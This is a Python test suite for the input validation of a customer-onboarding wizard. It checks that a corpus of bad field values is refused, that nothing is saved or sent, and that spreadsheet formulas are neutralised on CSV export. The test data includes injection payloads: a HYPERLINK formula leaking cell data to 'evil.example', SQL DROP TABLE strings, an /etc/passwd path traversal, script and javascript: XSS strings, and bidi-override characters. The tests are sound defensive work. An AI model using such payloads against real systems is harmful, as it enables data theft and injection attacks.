"""Bad input: a table of bad values for every field, through the models and the CSV import (in-process and the
real `a2p-wizard import`). Each is refused with a plain message naming its field; nothing reaches Twilio (the
sandbox is unchanged) and no saved customer changes. Values that are odd but legal in free text (spreadsheet
formulas, SQL, right-to-left text, emoji) are kept verbatim, stored safely and neutralised in CSV exports.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from tests.support import factories as f
from tests.support.commands import cli
from wizard.customer.csv_rows import COLUMNS, parse_rows, row_to_models
from wizard.customer.models import Campaign, SoleProprietor, StarterProfile, field_errors
from wizard.customer.spreadsheet import neutralise_formula
from wizard.desk import Desk

HUGE = "x" * 100_000
CONTROL = ["a\x00b", "a\x07b", "\x1b[31mred\x1b[0m", "a\x7fb", "a\x85b", "a\x9bb"]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SQL = "Robert'); DROP TABLE customers;--"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
LONG_SAMPLE = "Zoë's Dog Walking: Rex had a great walk today! Reply STOP to opt out."
MAX = {"first_name": 60, "last_name": 60, "email": 254, "phone": 40, "street": 100, "street2": 100, "city": 60,
       "region": 40, "postal_code": 20, "country": 10, "brand_name": 255, "mobile_phone": 40, "vertical": 40,
       "service_name": 64, "campaign_description": 4096, "message_flow": 2048, "sample_1": 1024,
       "sample_2": 1024, "sample_3": 1024, "opt_in_message": 320, "opt_out_message": 320, "help_message": 320,
       "opt_in_keywords": 1024, "privacy_policy_url": 2000, "terms_url": 2000, "phone_number": 64}
PHONES = ["abc", "555-0134", "206555013", "12065550134999", "+44 20 7946 0958", "+52 55 1234 5678",
          "+61 2 9374 4000", "+1 800 555 0100", "+1 888 555 0100", "+1 900 555 0100", "(206) 555-013",
          "2065550134x", "206-555-0134 ext 5", "٢٠٦٥٥٥٠١٣٤", "２０６５５５０１３４", "=2065550134",
          "+12065550134;DROP TABLE customers", "☎ 206 555 0134", "+1 206 555 0134" + RLO, "911", "000-000-0000",
          "+1 (555) 555-5555", "tel:+12065550134", "+1 206 555 01 34 56"]

# (column, bad value) — each must be refused, naming `column`
CORPUS: list[tuple[str, str]] = [
    *[("key", v) for v in ("../../etc/passwd", "a b", "K" * 41, "ключ", "😀", "K;DROP TABLE customers", "=1+1",
                           "C0001\u202e", "C/1", ".", "..", "...")],
    *[(name, v) for name in ("first_name", "last_name") for v in (
        "", "   ", "\u00a0", FORMULA, SQL, "😀", "Ann😀", RLO + "Ann", "Ann\u200b", "A1", "123", "@Ann", "+Ann",
        "-", "'", "<script>alert(1)</script>", "Ann\tLee", "Ann\nLee", "Ann_Lee")],
    *[("email", v) for v in (
        "", " ", "a@b", "not-an-email", "@example.com", "ann@", "ann@@example.com", "ann lee@example.com",
        "ann@exa mple.com", RLO + "ann@example.com", "ann@example..com", FORMULA, "ann@example.com; DROP TABLE x",
        "ann@example.com\nBcc: all@example.com", "x" * 250 + "@example.com", "ann@localhost", "ann@😀.com")],
    *[(name, v) for name in ("phone", "mobile_phone") for v in ("", " ", *PHONES)],
    *[("street", v) for v in ("", "   ")],
    *[("city", v) for v in ("", "   ", "\u00a0")],
    *[("region", v) for v in ("", " ", "ZZ", "Washington", "W A", "BC", "ON", "=WA", "😀", "ＷＡ", "WA;",
                              RLO + "WA", "W\u200bA")],
    *[("postal_code", v) for v in ("", " ", "9810", "981011", "98101-12", "ABCDE", "K1A 0B1", "98 101", "=98101",
                                   "98101" + RLO, "😀", "98101; DROP TABLE customers", "98101-ABCD", "-98101")],
    *[("country", v) for v in ("USA", "MX", "GB", "U.S.", "=US", "😀", "ＵＳ", RLO + "US", "United States")],
    *[("brand_name", v) for v in ("ann@example.com", "Zoë (zoe@example.com)", "AC" + "a" * 32, "BN" + "0" * 32,
                                  "Acct 123456789", "Zoë 2065550188")],
    *[("vertical", v) for v in ("SPACE", "=PROFESSIONAL", "😀", "PROFESSIONAL SERVICES", "TECH", "1")],
    *[("campaign_description", v) for v in ("", "   ", "Too short to describe anything.")],
    *[("message_flow", v) for v in ("", "   ", "They opt in.")],
    *[("sample_1", v) for v in ("Hi!", "x" * 19)],
    *[("sample_2", v) for v in ("", "Hi!")],
    *[("sample_3", v) for v in ("Hi!", "\x1b[31m" + LONG_SAMPLE)],
    *[(name, v) for name in ("has_embedded_links", "has_embedded_phone")
      for v in ("maybe", "2", "yes please", "=TRUE", "😀", "tru", "-1", HUGE)],
    *[(name, v) for name in ("opt_in_message", "opt_out_message", "help_message") for v in ("Too short.", " ok ")],
    *[("opt_out_keywords", v) for v in ("STOP!", "ST OP", "=STOP", "STOP;DROP", "😀", "STÖP",
                                        ",".join(f"KEYWORD{i:02d}" for i in range(30)))],
    *[(name, v) for name in ("privacy_policy_url", "terms_url") for v in (
        "javascript:alert(1)", "ftp://example.com/privacy", "http://", "https://exa mple.com", FORMULA,
        "example", "https://" + "a" * 2000, "//example.com")],
    *[("phone_number", v) for v in ("PN123", "PN" + "g" * 32, "PN" + "a" * 31, "abc", "+44 20 7946 0958",
                                    "+1 800 555 0100", "206555013", "=+12065550100", "MG" + "a" * 32)],
    # the same four kinds of bad text for every text field: control characters, one too many, 100 kB
    *[(name, v) for name in MAX for v in CONTROL[:3]],
    *[(name, "x" * (limit + 1)) for name, limit in MAX.items() if name not in ("email", "postal_code")],
    *[(name, HUGE) for name in MAX],
]
EXPECTED_FIELD = {("sample_2", ""): "samples"}
"""Where a value is reported under another name than its column: one sample left is a problem of the list."""

# Known gaps, reported to the models' owner: accepted today, but should be refused. strict: when the models are
# fixed these XPASS and fail, so the entry moves up into CORPUS.
LOOKALIKES: list[tuple[str, str, str]] = [
    ("postal_code", "٩٨١٠١", "\\d matches Arabic-Indic digits: the ZIP is stored and sent to Twilio as ٩٨١٠١"),
    ("postal_code", "９８１０１", "\\d matches full-width digits"),
    ("brand_name", RLO, "a brand name of one invisible bidi control passes the blank check"),
    ("brand_name", "\u200b\u200b", "a brand name of zero-width spaces passes the blank check"),
    ("street", "1 Main St" + RLO + "evil", "bidi override in a one-line address (Trojan-Source style)"),
    ("city", "Sea\u2028ttle", "a LINE SEPARATOR in a one-line field"),
]


def _good_row(key: str) -> dict[str, str]:
    return f.csv_row(key, brand_name="José's Tutoring", opt_in_message="", opt_out_message="", help_message="")


def _row_with(index: int, column: str, value: str) -> dict[str, str]:
    """A good row (key BAD<index>) with `value` in `column` — and a reply message when it is keywords."""
    row = _good_row(f"BAD{index:03d}")
    row[column] = value
    if column.endswith("_keywords"):
        row[column.replace("_keywords", "_message")] = "Reply STOP to stop, HELP for help. Msg&data rates may apply."
    return row


def _model_data(row: dict[str, str]) -> dict[str, dict[str, Any]]:
    """The three steps' model input, as a form would give it (samples as a list)."""
    samples = [row[f"sample_{i}"] for i in range(1, 6) if f"sample_{i}" in row]
    return {
        "profile": {c: row[c] for c in ("first_name", "last_name", "email", "phone", "street", "street2", "city",
                                        "region", "postal_code", "country")},
        "bundle": {c: row[c] for c in ("brand_name", "mobile_phone", "vertical")},
        "campaign": {**{c: row[c] for c in row if c not in COLUMNS[:14] and not c.startswith("sample_")},
                     "samples": samples},
    }


def _plain(message: str) -> bool:
    return (bool(message) and len(message) < 400 and message[-1] in ".?)" and "pydantic" not in message
            and "Input should" not in message and "Value error" not in message and "type=" not in message)


def test_the_corpus_is_big_and_covers_every_field():
    assert len(CORPUS) >= 200
    assert len(set(CORPUS)) == len(CORPUS), "no value twice"
    covered = {column for column, _ in CORPUS}
    assert covered >= set(COLUMNS) - {"sample_4", "sample_5", "opt_in_keywords", "help_keywords"}


@pytest.mark.parametrize(("column", "value"), CORPUS, ids=[f"{c}-{i}" for i, (c, _) in enumerate(CORPUS)])
def test_each_bad_value_is_refused_by_the_csv_row_naming_its_field(column: str, value: str):
    result = row_to_models(_row_with(0, column, value), 7)
    assert isinstance(result, list), f"{column}={value[:60]!r} was accepted"
    fields = {e.field for e in result}
    assert fields == {EXPECTED_FIELD.get((column, value), column)}, [(e.field, e.message) for e in result]
    for e in result:
        assert e.row == 7 and _plain(e.message), e.message


@pytest.mark.parametrize(("column", "value"), [(c, v) for c, v in CORPUS if c != "key"],
                         ids=[f"{c}-{i}" for i, (c, _) in enumerate(CORPUS) if c != "key"])
def test_each_bad_value_is_refused_by_its_model_naming_its_field(column: str, value: str):
    data = _model_data(_row_with(0, column, value))
    step = "profile" if column in data["profile"] else "bundle" if column in data["bundle"] else "campaign"
    model = {"profile": StarterProfile, "bundle": SoleProprietor, "campaign": Campaign}[step]
    with pytest.raises(ValidationError) as refused:
        model.model_validate(data[step])
    errors = field_errors(refused.value)
    field = EXPECTED_FIELD.get((column, value), column)
    assert set(errors) == {field}, errors
    assert _plain(errors[field]), errors[field]


@pytest.mark.parametrize(("column", "value", "why"), LOOKALIKES, ids=[g[0] for g in LOOKALIKES])
def test_lookalike_digits_and_invisible_characters_are_refused(column: str, value: str, why: str):
    assert isinstance(row_to_models(_row_with(0, column, value), 2), list), why


def _corpus_csv() -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(COLUMNS))
    writer.writeheader()
    for index, (column, value) in enumerate(CORPUS):
        writer.writerow(_row_with(index, column, value))
    return out.getvalue()


@pytest.mark.slow
async def test_importing_the_whole_corpus_creates_nothing_and_sends_nothing(runtime):
    saved = Desk(runtime).create(f.profile(), f.bundle(), f.campaign())
    await runtime.engine.advance(saved.key)  # a customer already under way
    before = (runtime.sandbox.dump(), runtime.store.get(saved.key), runtime.store.journal(saved.key))

    rows, errors = parse_rows(_corpus_csv())
    assert rows == []
    by_row: dict[int, set[str]] = {}
    for e in errors:
        by_row.setdefault(e.row, set()).add(e.field)
    assert by_row == {i + 2: {EXPECTED_FIELD.get((c, v), c)} for i, (c, v) in enumerate(CORPUS)}

    clash = io.StringIO()
    writer = csv.DictWriter(clash, fieldnames=list(COLUMNS))
    writer.writeheader()
    writer.writerow(_good_row(saved.key) | {"first_name": "Mallory"})
    report = await Desk(runtime).import_csv(io.StringIO(_corpus_csv()))
    clashed = await Desk(runtime).import_csv(io.StringIO(clash.getvalue()))
    assert report.created == 0 and len(report.errors) == len(CORPUS)
    assert clashed.created == 0 and "already exists" in clashed.errors[0].message
    assert runtime.store.keys() == [saved.key]
    assert (runtime.sandbox.dump(), runtime.store.get(saved.key), runtime.store.journal(saved.key)) == before


@pytest.mark.slow
def test_the_real_import_command_reports_every_bad_row_and_its_field(isolated: Path, tmp_path: Path):
    corpus = tmp_path / "corpus.csv"
    corpus.write_text(_corpus_csv(), encoding="utf-8")
    result = cli(isolated, "import", str(corpus))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "Imported 0 customer(s)" in result.stdout
    lines = result.stderr.splitlines()
    for index, (column, value) in enumerate(CORPUS):
        field = EXPECTED_FIELD.get((column, value), column)
        named = re.compile(rf"row {index + 2}( \([^)]*\))?, {re.escape(field)}: ")  # the row's key or name, if any
        assert any(named.match(line) for line in lines), (index, column)
    assert json.loads(cli(isolated, "list", "--json").stdout) == []
    assert json.loads(cli(isolated, "sandbox", "dump", "--json").stdout)["customer_profiles"][0]["friendly_name"] \
        == "Acme Messaging ISV (primary)"  # only what the sandbox was seeded with


# -- odd but legal: kept verbatim, stored safely, neutralised in exports ---------------------------------------

ODD_BUT_LEGAL = {
    "brand_name": [FORMULA, "+1 Dog Walking", "-Zoë-", "@Zoë's", "Robert'); DROP TABLE customers;--",
                   "כלבים של זואי", "Zoë 🐕 Walks"],
    "email": ["=cmd@example.com", "-zoe@example.com", "+zoe@example.com"],
    "street": [FORMULA, SQL, "רחוב הרצל 1", "1 Main St 🏠"],
}


async def test_odd_legal_values_are_stored_verbatim_and_exported_as_text(runtime, tmp_path: Path):
    from wizard.listing import CustomerList, ListQuery

    made = []
    for i, (column, value) in enumerate((c, v) for c, values in ODD_BUT_LEGAL.items() for v in values):
        overrides = {"email": f"odd{i}@example.com", column: value}
        profile = f.profile(**{k: v for k, v in overrides.items() if k in StarterProfile.model_fields})
        bundle = f.bundle(**{k: v for k, v in overrides.items() if k in SoleProprietor.model_fields})
        made.append((Desk(runtime).create(profile, bundle).key, column, value))
    for key, column, value in made:
        c = runtime.engine.load(key)
        assert (c.bundle.brand_name if column == "brand_name" else getattr(c.profile, column)) == value.strip()
    assert runtime.store.count() == len(made)  # the DROP TABLE was data, not SQL

    path = tmp_path / "export.csv"
    listing = CustomerList(runtime.store, runtime.engine.clock)
    try:
        assert listing.export_csv(ListQuery(), path) == len(made)
    finally:
        listing.close()
    cells = [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], "a live formula"
    for _, column, value in made:
        if column in ("brand_name", "email"):
            assert neutralise_formula(value) in cells
    assert "'" + FORMULA in cells and "'=cmd@example.com" in cells


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_neutralise_formula_makes_every_formula_start_text(value: str):
    assert neutralise_formula(value) == "'" + value
    assert neutralise_formula("Zoë") == "Zoë" and neutralise_formula("") == ""


# -- the same values typed into the step-1 form (Textual Pilot) ---------------------------------------------

FORM_FIELDS = ("first_name", "last_name", "email", "phone", "street", "street2", "city", "region", "postal_code")


@pytest.mark.slow
async def test_bad_values_typed_into_the_profile_form_are_refused_under_their_field(runtime):
    """A saved customer's step-1 form: bad values from the table pasted into their field, then ctrl+s. The
    message appears under that field (and no other), and nothing is saved or sent."""
    from textual.app import App
    from textual.widgets import Input

    from screens.customer_screen import CustomerScreen
    from screens.ordered_keys import clean_text
    from screens.widgets.fields import FormField

    class Host(App[None]):
        def __init__(self, key: str) -> None:
            super().__init__()
            self.desk, self.startup, self.key = Desk(runtime), runtime.startup, key

        def on_mount(self) -> None:
            self.push_screen(CustomerScreen(self.key))

    key = Desk(runtime).create(f.profile(), f.bundle(), f.campaign()).key
    before = (runtime.store.get(key), runtime.sandbox.dump(), runtime.store.journal(key))
    cases = []  # two per field (a Pilot round trip costs ~0.3 s): the first of the table and its formula/odd one
    for name in FORM_FIELDS:  # control characters are dropped from what is typed (tests/test_typing.py): not here
        values = [v for c, v in CORPUS if c == name and clean_text(v, one_line=True) == v and len(v) < 1000]
        cases += [(name, values[0]), (name, next((v for v in values if v[:1] in "=@+<" or not v.isascii()),
                                                 values[-1]))]
    good = f.profile().model_dump(mode="json")
    refused = 0
    app = Host(key)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        for column, value in cases:
            widget = app.screen.query_one(f"#{column}", Input)
            widget.value = value
            await pilot.press("ctrl+s")
            await pilot.pause()
            box = app.screen.query_one(f"#{column}-field", FormField)
            assert box.has_class("-has-error") and box.error, (column, value[:40])
            assert _plain(box.error), box.error
            others = [b.field for b in app.screen.query(FormField) if b.has_class("-has-error") and b is not box]
            assert others == [], (column, value[:40], others)
            refused += 1
            widget.value = good[column] or ""
            await pilot.pause()
    assert refused == len(cases) == 2 * len(FORM_FIELDS)
    assert (runtime.store.get(key), runtime.sandbox.dump(), runtime.store.journal(key)) == before
